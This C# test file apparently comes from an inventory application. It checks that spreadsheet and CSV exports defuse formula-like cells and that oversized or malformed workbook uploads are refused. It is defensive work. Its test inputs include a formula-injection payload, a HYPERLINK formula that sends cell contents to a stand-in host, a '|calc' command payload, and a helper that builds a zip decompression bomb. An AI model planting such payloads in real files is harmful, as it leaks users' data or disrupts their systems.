using System.IO.Compression;
using System.Text;
using CountDepot.Api.Imports;
using CountDepot.Api.Requests;
using CountDepot.Api.Sheets;
using CountDepot.Contracts;
using CsCheck;

namespace CountDepot.Specs.Api.Sheets;

/// <summary>What leaves the depot as a file is shown by a spreadsheet and never run, and comes back as it was.</summary>
public sealed class DefusedTests
{
    [Theory]
    [InlineData("+1-555", "\"'+1-555\"")]
    [InlineData("-5", "\"'-5\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("=HYPERLINK(\"https://e.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https")]
    [InlineData("\uFF1D1+1", "\"'\uFF1D1+1\"")]
    [InlineData("|calc", "\"'|calc\"")]
    [InlineData("%0A=1", "\"'%0A=1\"")]
    [InlineData("'=1", "\"''=1\"")]
    [InlineData("'quoted'", "\"'quoted'\"")]
    [InlineData("5 + 5", "\"5 + 5\"")]
    public async Task A_cell_that_begins_like_a_formula_begins_with_an_apostrophe(string text, string cell)
    {
        using var file = new MemoryStream();
        await Table([text]).WriteCsvAsync(file);
        Assert.StartsWith(cell, Encoding.UTF8.GetString(file.ToArray()).Split("\r\n", 2)[1], StringComparison.Ordinal);
    }

    [Fact]
    public void Whatever_the_text_it_is_the_same_after_it_was_defused_and_restored() =>
        Gen.Char["'=+-@\t|%\uFF1Da"].Array[0, 6].Select(letters => new string(letters)).Sample(text =>
        {
            var cell = Defused.Defuse(text);
            Assert.Equal(text, Defused.Restore(cell));
            Assert.False(cell.Length > 0 && "=+-@\t|%\uFF1D".Contains(cell[0], StringComparison.Ordinal), cell);
        });

    [Fact]
    public async Task A_workbook_comes_back_cell_by_cell_and_holds_no_formula()
    {
        using var file = new MemoryStream();
        await Workbook.WriteAsync(Table(["=1+1", "$=A1", "00123", "two\nlines"], [new Quantity(2_275), new DateOnly(2027, 1, 31), null, 4006381333931m]), file);

        using (var archive = new ZipArchive(new MemoryStream(file.ToArray())))
        {
            using var page = new StreamReader(archive.Entries.Single(e => e.FullName.EndsWith("sheet1.xml", StringComparison.Ordinal)).Open());
            Assert.DoesNotMatch("<(x:)?f[ >]", await page.ReadToEndAsync());
        }
        Assert.Equal("\"a\",\"b\",\"c\",\"d\"\r\n\"'=1+1\",\"$=A1\",\"00123\",\"two\nlines\"\r\n\"2.275\",\"2027-01-31\",\"\",\"4006381333931\"\r\n", Workbook.ToCsv(file.ToArray(), 10));
    }

    [Fact]
    public void What_is_no_workbook_is_refused_with_what_to_do()
    {
        foreach (var file in new byte[][] { [], "PK\u0003\u0004 and no more"u8.ToArray(), Encoding.UTF8.GetBytes("SKU,Quantity\nA,1\n"), Zip("xl/workbook.xml", 100) })
        {
            var refused = Assert.Throws<RefusedException>(() => Workbook.ToCsv(file, 10));
            Assert.Equal((RefusalCode.ImportInvalid, true), (refused.Code, refused.Message.Contains("save it", StringComparison.Ordinal)));
        }
    }

    [Fact]
    public void A_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read()
    {
        var small = Zip("xl/worksheets/sheet1.xml", 97 * 1024 * 1024);
        Assert.True(small.Length < 200_000);
        Assert.Contains("unpacks to too much", Assert.Throws<RefusedException>(() => Workbook.ToCsv(small, 10)).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_file_that_nobody_knows_is_asked_for_its_columns()
    {
        var refused = Assert.Throws<RefusedException>(() => ImportSheet.Read(new(ImportKind.Stock, CommandId.Parse("x"), null, "Article,Amount\nA,1\n")));
        Assert.Contains("Map the columns", refused.Message, StringComparison.Ordinal);
        Assert.Contains("Article, Amount", refused.Message, StringComparison.Ordinal);
    }

    private static Sheet Table(params object?[][] rows) =>
        new("table", [.. "abcd"[..rows[0].Length].Select(c => c.ToString())], rows.ToAsyncEnumerable());

    private static byte[] Zip(string name, int length)
    {
        using var whole = new MemoryStream();
        using (var archive = new ZipArchive(whole, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var part = archive.CreateEntry(name, CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var left = length; left > 0; left -= zeros.Length) part.Write(zeros, 0, Math.Min(left, zeros.Length));
        }
        return whole.ToArray();
    }
}
